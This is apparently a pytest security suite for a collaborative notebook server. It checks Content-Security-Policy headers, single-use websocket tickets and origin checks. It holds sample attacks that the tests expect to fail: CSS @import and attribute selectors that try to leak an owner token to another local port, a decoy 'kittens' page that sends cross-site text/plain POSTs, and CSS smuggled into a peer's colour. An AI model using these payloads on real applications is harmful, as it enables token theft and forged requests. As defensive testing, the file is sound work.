"""The browser page cannot be turned against its user (issue #12, part "web").

- CSS alone (a `<style>` with `@import` and attribute selectors in a markdown cell or an
  HTML output, aimed at the owner token in a rendered URL) could read the token out to
  another server: no style or remote load survives rendering, no page puts a token in a URL,
  and every page carries a strict Content-Security-Policy.
- A page on another localhost port (the same *site*) posted `text/plain` JSON with the
  `pairbook_token` cookie: no cookie any more, and a state-changing request must come from
  this origin (or an `--allow-origin`) and be `application/json`.
- The browser opens its websocket with a single-use ticket instead of `?token=`.
"""

from __future__ import annotations

import base64
import http.client
import json
import re
import threading
from collections.abc import AsyncIterator, Iterator
from http.client import HTTPMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import nbformat
import pytest
import pytest_asyncio
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

pytest.importorskip("playwright", reason="the browser attacks need the `playwright` package")

from playwright.async_api import Browser, Page, Request, WebSocket, expect

from support.browser import BUILT_CLIENT, VIEWPORT, NotebookTab, chromium, invite
from support.client import RawPeer, YClient
from support.server import OWNER_TOKEN, ServerProcess, free_port

pytestmark = pytest.mark.security
session_loop = pytest.mark.asyncio(loop_scope="session")
"""The browser fixture lives on the session's event loop: so do the tests that use it."""

# A 1x1 PNG.
PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360f8cf000000030101007ae1d0a70000000049454e44ae426082"
    )
).decode()

RECORD_VIOLATIONS = """
window.__violations = []
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`)
})
"""


class Elsewhere:
    """An HTTP server on another port of this machine (the same site as pairbook): it serves
    `pages` and records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.pages: dict[str, str] = {}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.requests.append(self.path)
                page = outer.pages.get(self.path.split("?")[0])
                body = (page or "").encode()
                self.send_response(200 if page is not None else 404)
                kind = "text/html" if page is not None else "text/css"
                self.send_header("Content-Type", f"{kind}; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self.http.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.http.serve_forever, daemon=True)

    def requests_for_pages(self) -> list[str]:
        return [r for r in self.requests if r.split("?")[0] in self.pages]

    def foreign_requests(self) -> list[str]:
        return [r for r in self.requests if r.split("?")[0] not in self.pages]


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    server.thread.start()
    try:
        yield server
    finally:
        server.http.shutdown()
        server.http.server_close()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def browser() -> AsyncIterator[Browser]:
    if not BUILT_CLIENT.exists():
        pytest.fail("the browser client is not built: run `bash scripts/install.sh` first")
    async with chromium() as launched:
        yield launched


def send(
    server: ServerProcess,
    method: str,
    path: str,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, HTTPMessage, str]:
    """One HTTP request with exactly these headers (urllib would add a form Content-Type)."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    try:
        connection.request(method, path, body=body, headers=headers or {})
        response = connection.getresponse()
        return response.status, response.headers, response.read().decode()
    finally:
        connection.close()


def csp_of(headers: HTTPMessage) -> dict[str, list[str]]:
    policy = headers.get("Content-Security-Policy") or ""
    directives: dict[str, list[str]] = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            directives[words[0]] = words[1:]
    return directives


def styled_notebook(path: Path, elsewhere: Elsewhere) -> None:
    """A notebook whose markdown and outputs try every way CSS and markup have to load from
    `elsewhere` (the way the token was read out: @import and attribute selectors)."""
    there = elsewhere.origin
    markdown = (
        f'<style>@import url("{there}/import.css");\n'
        f'a[href*="token=o"] {{ background: url({there}/selector-o) }}\n'
        f"body {{ background-image: url({there}/body-bg) }}</style>\n"
        f'<link rel="stylesheet" href="{there}/link.css">\n\n'
        f'<p style="background-image: url({there}/attr-bg)">styled</p>\n\n'
        f"![remote]({there}/markdown-image.png)\n\n*hello*"
    )
    html = (
        f"<style>@import url({there}/output-import.css); table {{ color: red }}</style>"
        f'<table class="dataframe"><tr><td style="background: url({there}/td-bg)">7</td></tr>'
        f"</table>"
        f'<img src="{there}/output-image.png" alt="remote image">'
        f'<svg width="20" height="20"><image href="{there}/svg-image.png" width="9" height="9"/>'
        f'<rect width="9" height="9" fill="url({there}/fill.svg#p)"/>'
        f'<set attributeName="href" to="{there}/set"/></svg>'
        f'<video poster="{there}/poster.png"></video>'
        f'<form action="{there}/form"><input type="image" src="{there}/input.png"></form>'
    )
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
        f"<style>@import url({there}/svg-import.css);</style>"
        '<circle cx="10" cy="10" r="8" fill="teal"/></svg>'
    )
    cell = new_code_cell("show()", id="out")
    cell.outputs = [
        new_output("display_data", data={"text/html": html, "text/plain": "t"}),
        new_output("display_data", data={"image/png": PIXEL, "text/plain": "png"}),
        new_output("display_data", data={"image/svg+xml": svg, "text/plain": "svg"}),
        new_output("display_data", data={"text/markdown": markdown}),
    ]
    nbformat.write(new_notebook(cells=[new_markdown_cell(markdown, id="md"), cell]), path)


async def settle(page: Page) -> None:
    """Style, lay out and paint everything, then wait until the network is quiet: any load
    the content could start has been started and has ended."""
    await page.evaluate(
        """() => new Promise((resolve) => {
            document.body.getBoundingClientRect()
            for (const el of document.querySelectorAll('*')) getComputedStyle(el).backgroundImage
            requestAnimationFrame(() => requestAnimationFrame(resolve))
        })"""
    )
    await page.wait_for_load_state("networkidle")


@session_loop
async def test_styles_and_remote_loads_in_markdown_and_outputs_reach_nothing(
    browser: Browser, server: ServerProcess, elsewhere: Elsewhere
) -> None:
    styled_notebook(server.root / "styled.ipynb", elsewhere)
    context = await browser.new_context(viewport=VIEWPORT)  # type: ignore[arg-type]
    await context.add_init_script(RECORD_VIOLATIONS)
    page = await context.new_page()
    attempted: list[str] = []  # by the page itself
    framed: list[str] = []  # by the output frame, each refused by its policy (below)
    blocked: list[str] = []

    def on_request(request: Request) -> None:
        if elsewhere.origin in request.url:
            (attempted if request.frame == page.main_frame else framed).append(request.url)

    page.on("request", on_request)
    page.on(
        "requestfailed",
        lambda r: blocked.append(r.url) if r.failure == "csp" else None,
    )
    await page.goto(f"{server.base}/notebooks/styled.ipynb?token={quote(OWNER_TOKEN)}")
    tab = NotebookTab(page)
    await tab.wait_connected()
    rendered = page.locator(".cell-rendered, .cell-outputs")
    await expect(tab.cell(0).locator(".cell-rendered em")).to_have_text("hello")
    # HTML that loads from elsewhere is more than styling to strip: it renders as written in
    # the output frame, whose own policy lets it load nothing from anywhere.
    frame_element = tab.cell(1).locator("iframe.output-frame")
    await expect(frame_element).to_have_count(1)
    handle = await frame_element.element_handle()
    frame = None if handle is None else await handle.content_frame()
    assert frame is not None
    await expect(frame.locator("td")).to_have_text("7")
    await expect(tab.cell(1).locator(".output-markdown em")).to_have_text("hello")
    await settle(page)
    two_frames = (
        "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
    )
    await frame.evaluate(two_frames)
    await page.wait_for_load_state("networkidle")

    assert elsewhere.requests == []
    assert attempted == []
    assert sorted(framed) == sorted(blocked)
    assert await rendered.locator("style, link, video, form, input, set").count() == 0
    assert await rendered.locator("[style]").count() == 0
    markup = await rendered.evaluate_all("(nodes) => nodes.map((n) => n.innerHTML).join('')")
    assert f":{elsewhere.port}" not in markup
    background = await page.evaluate("() => getComputedStyle(document.body).backgroundImage")
    assert background == "none"
    # Inline images still show: a PNG and the SVG (as an image, its style kept inside it).
    for kind in ("png", "svg+xml"):
        image = tab.cell(1).locator(f".output-image img[src^='data:image/{kind}']")
        await expect(image).to_have_count(1)
        await page.wait_for_function(
            "(img) => img.complete && img.naturalWidth > 0", arg=await image.element_handle()
        )
    assert await page.evaluate("() => window.__violations") == []
    assert tab.errors == []
    await context.close()


async def open_page(page: Page, url: str, ready: str) -> None:
    await page.goto(url)
    await page.locator(ready).first.wait_for()


@session_loop
async def test_every_page_runs_under_the_policy_and_no_url_carries_the_token(
    browser: Browser, server: ServerProcess, workdir: Path, tmp_path: Path
) -> None:
    context = await browser.new_context(viewport=VIEWPORT)  # type: ignore[arg-type]
    await context.add_init_script(RECORD_VIOLATIONS)
    page = await context.new_page()
    urls: list[str] = []
    sockets: list[str] = []
    csp_messages: list[str] = []

    def on_request(request: Request) -> None:
        urls.append(request.url)
        urls.append(request.headers.get("referer", ""))

    def on_socket(socket: WebSocket) -> None:
        sockets.append(socket.url)

    page.on("request", on_request)
    page.on("websocket", on_socket)
    page.on(
        "console",
        lambda m: csp_messages.append(m.text) if "Content Security Policy" in m.text else None,
    )
    # The owner's link: the token leaves the address bar at once.
    link = f"{server.base}/?token={quote(OWNER_TOKEN)}"
    await open_page(page, link, ".notebook-link")
    assert "token" not in page.url
    assert urls[:2] == [link, ""]  # the link itself, then never again
    del urls[:2]
    await page.get_by_role("link", name="demo.ipynb").click()
    tab = NotebookTab(page)
    await tab.wait_connected()
    await tab.edit_end(1)
    await page.keyboard.type("\nz = 3")
    await tab.wait_source(1, "s => s.endsWith('z = 3')")
    # A second connection (a reload) needs a fresh ticket: the first one is spent.
    await page.reload()
    await tab.wait_connected()
    await tab.wait_source(1, "s => s.endsWith('z = 3')")  # the edit reached the server
    assert len(sockets) >= 2
    assert all(re.search(r"/rooms/demo\.ipynb\?ticket=[\w-]+$", url) for url in sockets)

    await open_page(page, f"{server.base}/replay/demo.ipynb", ".replay-controls")
    await page.wait_for_function("() => window.pairbookReplay?.ready === true")
    async with page.expect_download() as download_info:
        await page.get_by_role("button", name="Export").click()
    download = await download_info.value
    assert download.suggested_filename == "demo.replay.jsonl"
    assert not download.url.startswith("http")  # a blob: URL, made from a fetch
    saved = tmp_path / "export.jsonl"
    await download.save_as(saved)
    lines = saved.read_text().splitlines()
    assert lines
    assert all(isinstance(json.loads(line), dict) for line in lines)
    html = await page.content()

    assert OWNER_TOKEN not in html
    for seen in [*urls, *sockets, page.url]:
        assert OWNER_TOKEN not in seen
    assert await page.evaluate("() => window.__violations") == []
    assert csp_messages == []
    await context.close()


def test_every_response_carries_the_policy_and_the_headers(server: ServerProcess) -> None:
    asset = next((BUILT_CLIENT.parent / "assets").glob("index-*.js")).name
    auth = {"Authorization": f"Bearer {OWNER_TOKEN}"}
    for path in (
        "/",
        "/notebooks/demo.ipynb",
        "/replay/demo.ipynb",
        f"/assets/{asset}",
        "/api/health",
        "/api/notebooks",
        "/api/me",
        "/no/such/page",
    ):
        status, headers, _ = send(server, "GET", path, headers=auth)
        assert status in (200, 404), path
        csp = csp_of(headers)
        assert csp["default-src"] == ["'self'"], path
        assert csp["script-src"] == ["'self'"], path
        assert csp["object-src"] == ["'none'"], path
        assert csp["base-uri"] == ["'none'"], path
        assert csp["frame-ancestors"] == ["'none'"], path
        assert csp["form-action"] == ["'self'"], path
        assert csp["img-src"] == ["'self'", "data:", "blob:"], path
        assert f"ws://127.0.0.1:{server.port}" in csp["connect-src"], path
        assert headers["X-Content-Type-Options"] == "nosniff", path
        assert headers["Referrer-Policy"] == "no-referrer", path


def test_only_the_output_frame_has_the_frame_policy(server: ServerProcess) -> None:
    status, headers, body = send(server, "GET", "/output-frame")
    assert status == 200
    csp = csp_of(headers)
    assert csp["sandbox"] == ["allow-scripts"]  # opaque origin: no allow-same-origin
    assert csp["connect-src"] == ["'none'"]
    assert csp["frame-ancestors"] == [f"http://127.0.0.1:{server.port}"]
    assert headers["X-Frame-Options"] == "SAMEORIGIN"
    assert "/output-frame/frame.js" in body
    # The frame's scripts load from its opaque origin: cross-origin for them, and only them.
    status, headers, _ = send(server, "GET", "/output-frame/frame.js")
    assert status == 200
    assert headers["Cross-Origin-Resource-Policy"] == "cross-origin"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "javascript" in (headers["Content-Type"] or "")
    status, _, _ = send(server, "GET", "/output-frame/../index.html")
    assert status == 404
    status, headers, _ = send(server, "GET", "/output-frame/bokeh/bokeh.min.js")
    assert status in (200, 404)  # 404: bokeh is not installed in this environment
    if status == 200:
        assert headers["Cross-Origin-Resource-Policy"] == "cross-origin"
    status, _, _ = send(server, "GET", "/output-frame/bokeh/..%2F..%2F__init__.py")
    assert status == 404
    asset = next((BUILT_CLIENT.parent / "assets").glob("index-*.js")).name
    _, headers, _ = send(server, "GET", f"/assets/{asset}")
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
    _, headers, _ = send(server, "GET", "/")
    assert csp_of(headers)["frame-src"] == [f"http://127.0.0.1:{server.port}/output-frame"]


@session_loop
async def test_a_ticket_opens_one_websocket_once(server: ServerProcess) -> None:
    status, body = server.request("POST", "/api/tickets", token=None)
    assert status == 401
    status, body = server.request("POST", "/api/tickets")
    assert status == 201
    assert isinstance(body, dict)
    ticket = body["ticket"]
    url = f"ws://127.0.0.1:{server.port}/rooms/demo.ipynb?ticket={quote(ticket)}"
    async with YClient(url) as client:
        assert client.sources()[0] == "# Test notebook"
    async with RawPeer(url) as again:
        code, reason = await again.closed_with()
    assert code == 4401
    assert "ticket" in reason
    # A ticket is for one websocket, not a credential for the API.
    status, body = server.request("POST", "/api/tickets")
    assert isinstance(body, dict)
    status, _ = server.get(f"/api/me?ticket={quote(body['ticket'])}", token=None)
    assert status == 401
    # Stock clients keep their token.
    async with YClient(server.ws_url("demo.ipynb")) as stock:
        assert stock.sources()[0] == "# Test notebook"


ATTACK = """<!doctype html><title>cute kittens</title>
<form id="form" method="post" enctype="text/plain" action="{base}/api/notebooks">
<input name='{{"path": "form-pwned", "x": "' value='"}}'></form>
<script>
(async () => {{
  const post = (path, body) => fetch('{base}' + path, {{
    method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: {{ 'Content-Type': 'text/plain' }}, body: JSON.stringify(body)
  }}).catch(() => null)
  await post('/api/notebooks', {{ path: 'fetch-pwned' }})
  await post('/api/replay/demo.ipynb/restore', {{ seq: 1 }})
  document.title = 'fetched'
}})()
</script>"""


@session_loop
async def test_a_page_on_another_port_cannot_create_or_restore_notebooks(
    browser: Browser, server: ServerProcess, workdir: Path, elsewhere: Elsewhere
) -> None:
    elsewhere.pages["/kittens.html"] = ATTACK.format(base=server.base)
    # The victim joined with an invite (which set the cookie) and edits the notebook.
    victim = await NotebookTab.open(
        browser, server, "demo.ipynb", token=invite(server, "editor"), join_as="Vic"
    )
    await victim.edit_end(1)
    await victim.page.keyboard.type("\nvictim_work = 1")
    await victim.wait_source(1, "s => s.endsWith('victim_work = 1')")
    # Then opens another page served from another port of localhost.
    attack = await victim.context.new_page()
    await attack.goto(f"{elsewhere.origin}/kittens.html")
    await expect(attack).to_have_title("fetched")
    async with attack.expect_navigation():
        await attack.evaluate("() => document.getElementById('form').submit()")

    assert sorted(p.name for p in workdir.glob("*.ipynb")) == ["demo.ipynb"]
    async with YClient(server.ws_url("demo.ipynb")) as check:
        assert check.source(1).endswith("victim_work = 1")
    assert victim.errors == []
    await victim.close()


def test_a_state_changing_request_must_be_same_origin_json(
    server: ServerProcess, workdir: Path
) -> None:
    auth = {"Authorization": f"Bearer {OWNER_TOKEN}"}
    json_type = {"Content-Type": "application/json"}
    other = f"http://127.0.0.1:{free_port()}"
    refused = [
        ({**auth, **json_type, "Origin": other}, 403),
        ({**auth, **json_type, "Origin": "null"}, 403),
        ({**auth, **json_type, "Sec-Fetch-Site": "same-site"}, 403),
        ({**auth, **json_type, "Sec-Fetch-Site": "cross-site"}, 403),
        ({**auth, "Content-Type": "text/plain"}, 415),
        ({**auth, "Content-Type": "application/x-www-form-urlencoded"}, 415),
        ({**auth, "Content-Type": "multipart/form-data; boundary=x"}, 415),
        (auth, 415),
    ]
    for index, (headers, expected) in enumerate(refused):
        body = json.dumps({"path": f"refused-{index}"}).encode()
        status, _, text = send(server, "POST", "/api/notebooks", body, headers)
        assert status == expected, (headers, text)
        assert "error" in json.loads(text)
    status, _, _ = send(
        server,
        "POST",
        "/api/replay/demo.ipynb/restore",
        b'{"seq": 1}',
        {**auth, "Content-Type": "text/plain"},
    )
    assert status == 415
    assert sorted(p.name for p in workdir.glob("*.ipynb")) == ["demo.ipynb"]
    # This server's own pages, and clients that are no browser, go through.
    own = {**auth, **json_type, "Origin": server.base, "Sec-Fetch-Site": "same-origin"}
    assert send(server, "POST", "/api/notebooks", b'{"path": "own"}', own)[0] == 201
    stock = {**auth, **json_type}
    assert send(server, "POST", "/api/notebooks", b'{"path": "stock"}', stock)[0] == 201
    assert send(server, "POST", "/api/tickets", None, auth)[0] == 201


def test_an_allowed_origin_may_post_and_no_cookie_is_a_credential(
    workdir: Path, store_path: str
) -> None:
    other = f"http://127.0.0.1:{free_port()}"
    with ServerProcess(workdir, store=store_path, args=("--allow-origin", other)) as server:
        headers = {
            "Authorization": f"Bearer {OWNER_TOKEN}",
            "Content-Type": "application/json",
            "Origin": other,
        }
        status, _, _ = send(server, "POST", "/api/notebooks", b'{"path": "from-dev"}', headers)
        assert status == 201
        status, body = server.request("POST", "/api/invites", {"role": "editor"})
        assert isinstance(body, dict)
        invite_token = body["token"]
        status, response_headers, text = send(
            server,
            "POST",
            "/api/join",
            json.dumps({"invite": invite_token, "name": "Ada"}).encode(),
            {"Content-Type": "application/json"},
        )
        assert status == 201
        assert response_headers.get("Set-Cookie") is None
        personal = json.loads(text)["token"]
        status, _, _ = send(
            server, "GET", "/api/me", headers={"Cookie": f"pairbook_token={personal}"}
        )
        assert status == 401


@session_loop
async def test_a_peers_awareness_puts_no_css_into_the_page(
    browser: Browser, server: ServerProcess, elsewhere: Elsewhere
) -> None:
    owner = await NotebookTab.open(browser, server, "demo.ipynb")
    eve = await NotebookTab.open(
        browser, server, "demo.ipynb", token=invite(server, "editor"), join_as="Eve"
    )
    evil = f"red; position: fixed; inset: 0; background-image: url({elsewhere.origin}/cl)"
    await eve.page.evaluate(
        """(evil) => {
            const awareness = window.pairbook.awareness
            const user = awareness.getLocalState().user
            awareness.setLocalStateField('user', { ...user, colorLight: evil })
        }""",
        evil,
    )
    # Then Eve selects text: her selection is drawn in the owner's editor in her colors.
    await eve.edit_end(1)
    await eve.page.keyboard.press("Shift+Home")
    selection = owner.cell(1).locator(".cm-ySelection").first
    await selection.wait_for()
    style = await selection.get_attribute("style") or ""
    # Only her color, lightened (the browser writes #rrggbb33 as rgba).
    assert re.fullmatch(r"background-color: rgba?\([0-9., ]+\);?", style.strip()), style
    await settle(owner.page)
    assert elsewhere.requests == []
    await owner.close()
    await eve.close()
